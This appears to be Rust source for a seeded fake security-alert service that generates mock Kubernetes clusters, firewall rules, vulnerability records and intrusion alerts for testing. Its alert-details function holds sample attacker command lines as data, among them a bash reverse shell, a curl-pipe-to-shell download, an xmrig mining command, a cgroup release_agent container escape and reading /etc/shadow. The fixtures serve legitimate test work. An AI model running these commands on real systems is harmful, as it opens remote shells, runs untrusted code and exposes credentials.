//! Content of the fake world: ACK clusters, nodes, workloads and firewall rules, and default
//! findings in the four domains, all drawn from a seeded RNG so a seed always gives the same world.
//!
//! Records are built directly in wire shape (the keys of `samples/*.json`, odd spellings included),
//! because that is what the API returns and what control-plane merges patch. Catalog entries are
//! modelled on real Security Center content (alert types, ALINUX advisories, CIS baselines).
//! Attacker-written fields (command lines, file paths, ignore reasons) sometimes carry hostile text
//! so downstream renderers are exercised against markdown, HTML, chat mentions and newlines.

use rand::Rng;
use rand::seq::IndexedRandom;
use serde_json::{Map, Value, json};

use super::world::{Warning, World, fmt_time, vuln_natural_key, warning_natural_key};

use super::catalog::*;

impl World {
    fn hex(&mut self, n: usize) -> String {
        const HEX: &[u8] = b"0123456789abcdef";
        (0..n)
            .map(|_| HEX[self.rng.random_range(0..16)] as char)
            .collect()
    }

    fn alnum(&mut self, n: usize) -> String {
        const A: &[u8] = b"0123456789abcdefghijklmnopqrstuvwxyz";
        (0..n)
            .map(|_| A[self.rng.random_range(0..A.len())] as char)
            .collect()
    }

    /// A UUID-shaped string drawn from the seeded RNG (so it is reproducible).
    fn uuid(&mut self) -> String {
        let mut b = [0u8; 16];
        self.rng.fill(&mut b);
        uuid::Builder::from_random_bytes(b)
            .into_uuid()
            .hyphenated()
            .to_string()
    }

    fn hostile(&mut self, one_in: u32) -> Option<&'static str> {
        if self.hostile && self.rng.random_ratio(1, one_in) {
            HOSTILE.choose(&mut self.rng).copied()
        } else {
            None
        }
    }

    /// Builds the clusters, nodes, workloads and rules.
    pub(crate) fn build_clusters(&mut self, clusters: usize, nodes: usize) {
        for ci in 0..clusters {
            let (base_name, region) = CLUSTER_NAMES[ci % CLUSTER_NAMES.len()];
            let name = if ci < CLUSTER_NAMES.len() {
                base_name.to_string()
            } else {
                format!("{base_name}-{}", ci / CLUSTER_NAMES.len() + 1)
            };
            let cluster_id = format!("c{}", self.hex(16));
            let subnet = self.rng.random_range(1..250u32);
            let mut node_list = Vec::new();
            for ni in 0..nodes {
                let ip = format!("192.168.{}.{}", subnet + (ni as u32) / 200, 10 + ni % 200);
                let internet_ip = if self.rng.random_ratio(1, 4) {
                    format!(
                        "47.{}.{}.{}",
                        self.rng.random_range(90..120u32),
                        self.rng.random_range(0..256u32),
                        self.rng.random_range(1..255u32)
                    )
                } else {
                    String::new()
                };
                node_list.push(Node {
                    uuid: self.uuid(),
                    instance_id: format!("i-bp1{}", self.alnum(17)),
                    instance_name: format!("worker-k8s-for-cs-{cluster_id}-{}", ni + 1),
                    node_name: format!("{region}.{ip}"),
                    intranet_ip: ip,
                    internet_ip,
                });
            }
            let workloads: Vec<Workload> = WORKLOADS
                .iter()
                .map(|(ns, app, image)| Workload {
                    namespace: ns.to_string(),
                    app: app.to_string(),
                    image: image.to_string(),
                })
                .collect();
            // Cluster 0's first two rules and their objects are the contract sample's.
            let rule_base = 200_100 + (ci as i64) * 100;
            let target_base = 30_000 + (ci as i64) * 100;
            let rules = vec![
                FirewallRule {
                    rule_id: rule_base + 23,
                    rule_name: "deny redis from web".into(),
                    rule_switch: 1,
                    intercept_type: 1,
                    order_index: 5,
                    src: 2,
                    src_target_id: target_base + 1,
                    src_target: "web-frontend-obj".into(),
                    dst: 3,
                    dst_target_id: target_base + 2,
                    dst_target: "redis-obj".into(),
                    dst_port: 6379,
                },
                FirewallRule {
                    rule_id: rule_base + 31,
                    rule_name: "alert on egress from batch".into(),
                    rule_switch: 1,
                    intercept_type: 2,
                    order_index: 20,
                    src: 5,
                    src_target_id: target_base + 7,
                    src_target: "batch-jobs".into(),
                    dst: 1,
                    dst_target_id: target_base + 9,
                    dst_target: "orders-api-obj".into(),
                    dst_port: 8080,
                },
                FirewallRule {
                    rule_id: rule_base + 42,
                    rule_name: "deny payments from default namespace".into(),
                    rule_switch: i64::from(ci % 2 == 0),
                    intercept_type: 1,
                    order_index: 30,
                    src: 8,
                    src_target_id: target_base + 11,
                    src_target: "default-ns".into(),
                    dst: 0,
                    dst_target_id: target_base + 12,
                    dst_target: "checkout-obj".into(),
                    dst_port: 8443,
                },
            ];
            self.clusters.push(Cluster {
                cluster_id,
                cluster_name: name,
                region_id: region.to_string(),
                cluster_type: if ci % 3 == 2 {
                    "Kubernetes".into()
                } else {
                    "ManagedKubernetes".into()
                },
                cnnf_status: if ci % 2 == 0 { 1 } else { 2 },
                interception_switch: i64::from(ci % 2 == 0),
                nodes: node_list,
                workloads,
                rules,
            });
        }
    }

    /// Index of the cluster with this id, or a random one.
    fn cluster_index(&mut self, cluster_id: Option<&str>) -> usize {
        if let Some(id) = cluster_id
            && let Some(i) = self.cluster_at.get(id)
        {
            return *i;
        }
        self.rng.random_range(0..self.clusters.len().max(1))
    }

    fn pod_name(&mut self, app: &str) -> String {
        if app == "log-agent" {
            format!("{app}-ds-{}", self.alnum(5))
        } else if app == "redis-cache" || app == "crypto-test" {
            format!("{app}-{}", self.rng.random_range(0..3u32))
        } else {
            format!("{app}-{}-{}", self.hex(10), self.alnum(5))
        }
    }

    /// A default alert (`SuspEvents[]` item) on a random or given cluster, last seen at `at_ms`.
    pub(crate) fn default_alert(
        &mut self,
        id: i64,
        cluster_id: Option<&str>,
        at_ms: i64,
    ) -> Map<String, Value> {
        let ci = self.cluster_index(cluster_id);
        let kind = &ALERT_KINDS[self.rng.random_range(0..ALERT_KINDS.len())];
        let c = &self.clusters[ci];
        let node = c.nodes[self.rng.random_range(0..c.nodes.len())].clone();
        let wi = kind
            .workload
            .unwrap_or_else(|| self.rng.random_range(0..WORKLOADS.len() - 1));
        let (cid, cname) = (c.cluster_id.clone(), c.cluster_name.clone());
        let w = c.workloads[wi].clone();
        let pod = self.pod_name(&w.app);
        let container_id = self.hex(64);
        let image_id = format!("sha256:{}", self.hex(64));
        let image_uuid = format!("img-{}", self.hex(16));
        let unique = self.hex(32);
        let pid = self.rng.random_range(300..65_000u32).to_string();
        let first_ms = at_ms - self.rng.random_range(0..600_000i64);
        let details = self.alert_details(kind, &w, &container_id, &pid);
        let level = if kind.mark == "malicious_image" && self.rng.random_ratio(1, 3) {
            "remind"
        } else {
            kind.level
        };
        let support = [
            "",
            "AI.real_attack",
            "AI.false_positive",
            "AI.Insufficient_information_to_evaluate",
        ]
        .choose(&mut self.rng)
        .copied()
        .unwrap_or("");
        let report = if kind.mark == "mining" {
            format!("https://sas-report.oss-cn-shanghai.aliyuncs.com/deep/{id}.pdf")
        } else {
            String::new()
        };
        // Two halves: one `json!` with all 60 keys exceeds the macro recursion limit.
        let mut m = obj(json!({
            "Advanced": self.rng.random_ratio(1, 8),
            "AlarmEventName": kind.name,
            "AlarmEventNameDisplay": kind.name,
            "AlarmEventType": kind.event_type,
            "AlarmEventTypeDisplay": kind.event_type,
            "AlarmUniqueInfo": unique,
            "AppName": w.app,
            "AutoBreaking": kind.mark == "container_escape",
            "CanBeDealOnLine": true,
            "CanCancelFault": false,
            "ContainHwMode": false,
            "ContainerId": container_id,
            "ContainerImageId": image_id,
            "ContainerImageName": w.image,
            "DataSource": "aegis_suspicious_event",
            "DeepAnalyzeReportUrl": report,
            "Desc": kind.desc,
            "Details": details,
            "DetectSource": "",
            "DisplaySandboxResult": kind.mark == "mining",
            "EventNotes": [],
            "EventStatus": 1,
            "EventSubType": kind.sub_type,
            "HasTraceInfo": true,
            "Id": id,
            "ImageUuid": image_uuid,
            "InstanceId": node.instance_id,
            "InstanceName": node.instance_name,
            "InternetIp": node.internet_ip,
            "IntranetIp": node.intranet_ip,
        }));
        m.extend(obj(json!({
            "K8sClusterId": cid,
            "K8sClusterName": cname,
            "K8sNamespace": w.namespace,
            "K8sNodeId": node.instance_id,
            "K8sNodeName": node.node_name,
            "K8sPodName": pod,
            "LargeModel": self.rng.random_ratio(1, 5),
            "LastTime": fmt_time(at_ms),
            "LastTimeStamp": at_ms,
            "Level": level,
            "MaliciousRuleStatus": if kind.level == "serious" { "open" } else { "close" },
            "MarkList": [kind.mark],
            "MarkMisRules": "",
            "Name": format!("{}-{}", kind.event_type, kind.name),
            "OccurrenceTime": fmt_time(first_ms),
            "OccurrenceTimeStamp": first_ms,
            "OperateErrorCode": "",
            "OperateMsg": "",
            "OperateTime": 0,
            "SaleVersion": "1",
            "SecurityEventIds": id.to_string(),
            "SourceAliUid": SOURCE_ALI_UID,
            "Stages": kind.tactic.0,
            "SupportOperateCode": support,
            "TacticItems": [{"TacticDisplayName": kind.tactic.1, "TacticId": kind.tactic.0}],
            "UniqueInfo": unique,
            "Uuid": node.uuid,
            "clusterId": cid,
        })));
        m
    }

    fn alert_details(
        &mut self,
        kind: &AlertKind,
        w: &Workload,
        container_id: &str,
        pid: &str,
    ) -> Value {
        let ip = format!(
            "{}.{}.{}.{}",
            self.rng.random_range(45..223u32),
            self.rng.random_range(0..256u32),
            self.rng.random_range(0..256u32),
            self.rng.random_range(1..255u32)
        );
        let md5 = self.hex(32);
        let mut rows: Vec<(&str, String)> = match kind.mark {
            "mining" => vec![
                ("Process path", "/tmp/.x/xmrig".to_string()),
                (
                    "Command line",
                    format!(
                        "/tmp/.x/xmrig -o pool.minexmr.com:443 -u 4A1b{} --tls",
                        self.hex(8)
                    ),
                ),
                ("Process ID", pid.to_string()),
                ("File MD5", md5),
            ],
            "reverse_shell" => vec![
                ("Process path", "/bin/bash".to_string()),
                (
                    "Command line",
                    format!("bash -i >& /dev/tcp/{ip}/4444 0>&1"),
                ),
                ("Remote address", format!("{ip}:4444")),
                ("Process ID", pid.to_string()),
            ],
            "container_escape" => vec![
                ("Container ID", container_id[..12].to_string()),
                (
                    "Command line",
                    "sh -c echo /cmd > /sys/fs/cgroup/rdma/release_agent".to_string(),
                ),
                ("Process ID", pid.to_string()),
            ],
            "sensitive_file" => vec![
                (
                    "File path",
                    [
                        "/etc/shadow",
                        "/var/run/secrets/kubernetes.io/serviceaccount/token",
                        "/root/.kube/config",
                    ]
                    .choose(&mut self.rng)
                    .copied()
                    .unwrap_or("/etc/shadow")
                    .to_string(),
                ),
                ("Command line", "cat /etc/shadow".to_string()),
                ("Process ID", pid.to_string()),
            ],
            "kubectl_exec" => vec![
                ("Command line", "/bin/bash -i".to_string()),
                ("Parent process", "runc:[2:INIT]".to_string()),
                ("User", "root".to_string()),
            ],
            "malicious_image" => vec![
                ("Image", w.image.clone()),
                ("Malicious file", "/usr/bin/kdevtmpfsi".to_string()),
                ("File MD5", md5),
            ],
            "k8s_api" => vec![
                ("Request URI", "/api/v1/secrets?limit=500".to_string()),
                (
                    "Service account",
                    format!("system:serviceaccount:{}:default", w.namespace),
                ),
                (
                    "Source IP",
                    format!(
                        "172.20.{}.{}",
                        self.rng.random_range(0..255u32),
                        self.rng.random_range(1..255u32)
                    ),
                ),
            ],
            "webshell" => vec![
                ("File path", "/var/www/html/uploads/shell.php".to_string()),
                ("File MD5", md5),
            ],
            _ => vec![
                ("Command line", format!("curl -fsSL http://{ip}/i.sh | sh")),
                ("Process ID", pid.to_string()),
            ],
        };
        if let Some(h) = self.hostile(5) {
            // Attackers write command lines and file names; put hostile text where they would.
            let target = rows
                .iter()
                .position(|(n, _)| *n == "Command line" || *n == "File path")
                .unwrap_or(0);
            if let Some(row) = rows.get_mut(target) {
                row.1 = h.to_string();
            }
        }
        Value::Array(
            rows.into_iter()
                .map(|(n, v)| json!({"NameDisplay": n, "Type": "text", "Value": v, "ValueDisplay": v}))
                .collect(),
        )
    }

    /// A default vulnerability record (`VulRecords[]` item) on a random or given cluster, avoiding
    /// a duplicate natural key `(Uuid, Name, ContainerId)` when it can.
    pub(crate) fn default_vuln(
        &mut self,
        id: i64,
        cluster_id: Option<&str>,
        at_ms: i64,
    ) -> Map<String, Value> {
        let ci = self.cluster_index(cluster_id);
        let pick = self.pick_vuln_target(ci);
        let Some((d, node, wi, container)) = pick else {
            return Map::new();
        };
        let c = &self.clusters[ci];
        let (cid, region) = (c.cluster_id.clone(), c.region_id.clone());
        let w = c.workloads[wi].clone();
        let first = at_ms - self.rng.random_range(0..7 * DAY_MS);
        let is_host = d.kind == "cve";
        let pod = if is_host {
            String::new()
        } else {
            self.pod_name(&w.app)
        };
        let mut path = if is_host {
            String::new()
        } else {
            format!(
                "/app/lib/{}-{}.jar",
                d.package.rsplit(':').next().unwrap_or(d.package),
                d.version
            )
        };
        if !is_host && let Some(h) = self.hostile(8) {
            path = h.to_string();
        }
        let rpm = self.vuln_package(d, is_host, &w, &path);
        let tag = match d.kind {
            "cve" => "oval",
            other => other,
        };
        obj(json!({
            "AliasName": d.alias,
            "AuthVersion": "7",
            "Bind": true,
            "ContainerId": container,
            "ExtendContentJson": {
                "AbsolutePath": path,
                "AliasName": d.alias,
                "Description": d.desc,
                "EmgProof": "",
                "Ip": node.intranet_ip,
                "LastTs": at_ms,
                "Necessity": {
                    "Assets_factor": "1",
                    "Cvss_factor": d.cvss,
                    "Enviroment_factor": "1.5",
                    "Is_calc": "1",
                    "Status": "normal",
                    "Time_factor": "1.2",
                    "Total_score": d.score,
                },
                "Os": if is_host { "alinux" } else { "" },
                "OsRelease": if is_host { "3" } else { "" },
                "PrimaryId": id,
                "RpmEntityList": [rpm],
                "Status": "1",
                "Tag": tag,
                "Target": "",
                "cveList": d.cves,
            },
            "FirstTs": first,
            "GroupId": 9_207_613,
            "Image": if is_host { "" } else { w.image.as_str() },
            "InstanceId": node.instance_id,
            "InstanceName": node.instance_name,
            "InternetIp": node.internet_ip,
            "IntranetIp": node.intranet_ip,
            "K8sClusterId": cid,
            "K8sNamespace": if is_host { "" } else { w.namespace.as_str() },
            "K8sNodeId": node.instance_id,
            "K8sNodeName": node.node_name,
            "K8sPodName": pod,
            "LastTs": at_ms,
            "ModifyTs": at_ms,
            "Name": d.name,
            "Namespace": if is_host { "" } else { w.namespace.as_str() },
            "Necessity": d.necessity,
            "Online": true,
            "OsName": "Alibaba Cloud Linux",
            "OsVersion": "3.2104 LTS 64bit",
            "PrimaryId": id,
            "Progress": 0,
            "RaspDefend": i64::from(d.language == "java"),
            "RaspStatus": i64::from(d.language == "java"),
            "RealRisk": d.necessity == "asap",
            "RegionId": region,
            "Related": d.cves.join(","),
            "RepairTs": 0,
            "ResultCode": "",
            "ResultMessage": "",
            "RuleTag": "",
            "Status": 1,
            "Tag": tag,
            "Type": d.kind,
            "Uuid": node.uuid,
        }))
    }

    /// A catalog vulnerability and where it sits on cluster `ci` (node, workload index,
    /// container id), avoiding a duplicate natural key `(Uuid, Name, ContainerId)` among open
    /// records when a few tries can.
    fn pick_vuln_target(&mut self, ci: usize) -> Option<(&'static VulnDef, Node, usize, String)> {
        // Try a few times to avoid a duplicate natural key (Uuid, Name, ContainerId) among open records.
        let mut pick = None;
        for _ in 0..8 {
            let d = &VULNS[self.rng.random_range(0..VULNS.len())];
            let c = &self.clusters[ci];
            let node = c.nodes[self.rng.random_range(0..c.nodes.len())].clone();
            let wi = self.rng.random_range(0..c.workloads.len());
            let container = if d.kind == "cve" {
                String::new()
            } else {
                // Container ids are stable per (node, workload) so re-detections collide as on the real service.
                format!(
                    "{:0>64}",
                    format!("{:x}{}", wi + 1, &node.uuid.replace('-', "")[..16])
                )
            };
            let dup = self
                .vulns
                .has_key(&vuln_natural_key(&node.uuid, d.name, &container));
            pick = Some((d, node, wi, container));
            if !dup {
                break;
            }
        }
        pick
    }

    /// The `RpmEntityList` item: the vulnerable package as the record shows it.
    fn vuln_package(&mut self, d: &VulnDef, is_host: bool, w: &Workload, path: &str) -> Value {
        let short = d
            .package
            .rsplit(':')
            .next()
            .unwrap_or(d.package)
            .to_string();
        let rpm = json!({
            "ContainerName": if is_host { "" } else { w.app.as_str() },
            "ExtendField": if d.language.is_empty() { String::new() } else { format!("{{\"language\":\"{}\"}}", d.language) },
            "FullVersion": if is_host { format!("{}-{}.x86_64", d.package, d.version) } else { format!("{}:{}", d.package, d.version) },
            "ImageName": if is_host { "" } else { w.image.as_str() },
            "MatchDetail": format!("{short} version less than {}", d.fixed),
            "MatchList": [format!("{short} version less than {}", d.fixed)],
            "Name": short,
            "Path": path,
            "Pid": if is_host { String::new() } else { self.rng.random_range(1..500u32).to_string() },
            "UpdateCmd": if is_host { format!("yum update {}", d.package) } else { format!("Upgrade {} to {} or later", d.package, d.fixed) },
            "Version": d.version,
        });
        rpm
    }

    /// A default baseline check warning on a random or given cluster. `risk_id` picks the
    /// baseline when it is known.
    pub(crate) fn default_warning(
        &mut self,
        id: i64,
        cluster_id: Option<&str>,
        risk_id: Option<i64>,
        at_ms: i64,
    ) -> Warning {
        let ci = self.cluster_index(cluster_id);
        let mut pick = None;
        for _ in 0..8 {
            let risk = match risk_id.and_then(risk_def) {
                Some(r) => r,
                None => &RISKS[self.rng.random_range(0..RISKS.len())],
            };
            let check = &risk.checks[self.rng.random_range(0..risk.checks.len())];
            let c = &self.clusters[ci];
            let node = c.nodes[self.rng.random_range(0..c.nodes.len())].clone();
            let dup = self
                .warnings
                .has_key(&warning_natural_key(risk.id, &node.uuid, check.id));
            pick = Some((risk, check, node));
            if !dup {
                break;
            }
        }
        let Some((risk, check, node)) = pick else {
            return Warning::empty();
        };
        let c = &self.clusters[ci];
        let cid = c.cluster_id.clone();
        let (container_id, container_name) = match risk.workload {
            Some(wi) => {
                let app = c.workloads[wi].app.clone();
                (self.hex(64), self.pod_name(&app))
            }
            None => (String::new(), String::new()),
        };
        Warning {
            risk_id: risk.id,
            cluster_id: cid,
            found_ms: at_ms,
            body: obj(json!({
                "CheckId": check.id,
                "CheckWarningId": id,
                "ContainerId": container_id,
                "ContainerName": container_name,
                "ExecErrorMessage": "",
                "FixStatus": i64::from(check.fixable),
                "Item": check.item,
                "LastHandleTime": 0,
                "Level": check.level,
                "Reason": "",
                "Status": 1,
                "Type": check.kind,
                "Uuid": node.uuid,
            })),
        }
    }

    /// A reason an operator typed when ignoring a baseline item (sometimes hostile).
    pub(crate) fn ignore_reason(&mut self) -> String {
        match self.hostile(4) {
            Some(h) => h.to_string(),
            None => [
                "accepted risk: legacy workload",
                "false positive, see OPS-4411",
                "compensating control in place",
            ]
            .choose(&mut self.rng)
            .copied()
            .unwrap_or("accepted risk")
            .to_string(),
        }
    }

    /// A default firewall alert (`InterceptionHistoryList[]` item) for one rule of a cluster.
    pub(crate) fn default_interception(
        &mut self,
        id: i64,
        cluster_id: Option<&str>,
        at_ms: i64,
    ) -> Map<String, Value> {
        let ci = self.cluster_index(cluster_id);
        let c = &self.clusters[ci];
        let rule = c.rules[self.rng.random_range(0..c.rules.len())].clone();
        let src = c.workloads[rule.src].clone();
        let dst = c.workloads[rule.dst].clone();
        let (cid, cname) = (c.cluster_id.clone(), c.cluster_name.clone());
        // Sometimes the real source is not the rule's object (a debug pod in the same namespace).
        let (real_src_app, real_src_image) = if self.rng.random_ratio(1, 4) {
            (
                "debug-toolbox".to_string(),
                "docker.io/nicolaka/netshoot:v0.12".to_string(),
            )
        } else {
            (src.app.clone(), src.image.clone())
        };
        let real_src_pod = self.pod_name(&real_src_app);
        let real_dst_pod = self.pod_name(&dst.app);
        let day_start = at_ms - at_ms.rem_euclid(DAY_MS);
        let first = (at_ms - self.rng.random_range(0..3_600_000i64)).max(day_start);
        obj(json!({
            "ClusterId": cid,
            "ClusterName": cname,
            "DstAppName": dst.app,
            "DstNamespace": dst.namespace,
            "DstPort": rule.dst_port,
            "DstRuleTargetName": rule.dst_target,
            "FirstTime": first,
            "Id": id,
            "InterceptionName": "Abnormal access",
            "InterceptionType": rule.intercept_type,
            "LastTime": at_ms,
            "RealDstAppName": dst.app,
            "RealDstImageName": dst.image,
            "RealDstNamespace": dst.namespace,
            "RealDstPodName": real_dst_pod,
            "RealInterceptionType": rule.intercept_type,
            "RealSrcAppName": real_src_app,
            "RealSrcImageName": real_src_image,
            "RealSrcNamespace": src.namespace,
            "RealSrcPodName": real_src_pod,
            "RiskLevel": self.rng.random_range(1..=3i64),
            "RuleId": rule.rule_id,
            "RuleName": rule.rule_name,
            "SrcAppName": src.app,
            "SrcNamespace": src.namespace,
            "SrcRuleTargetName": rule.src_target,
            "Status": 0,
            "TryCount": self.rng.random_range(1..40i64),
        }))
    }
}
